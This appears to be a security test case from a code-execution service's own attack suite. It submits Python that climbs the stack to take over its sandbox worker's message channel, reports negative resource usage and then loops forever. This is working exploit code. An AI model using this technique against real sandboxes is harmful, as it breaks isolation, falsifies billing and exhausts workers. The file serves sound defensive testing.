# attack: serve/runs-that-say-they-cost-nothing
# oracle: reach
# source: own
# note: bob's code takes over its worker and says itself what its run has used: less than nothing
import httpx

CODE = """
import sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
channel = frame.f_locals["self"]._channel
from pinjra.wire.messages import Finished
channel.send(Finished(run=channel.run, cpu_seconds=-1e300, memory_peak_bytes=-5, operations=-1))
while True:
    pass
"""


def attack(world):
    bob = httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.bob}"}, timeout=300)
    session = bob.post("/v1/sessions", json={"guard": False}).headers["Location"]
    used = bob.post(f"{session}/runs", json={"code": CODE}).json().get("usage", {})
    return [name for name, figure in used.items() if isinstance(figure, (int, float)) and figure < 0]
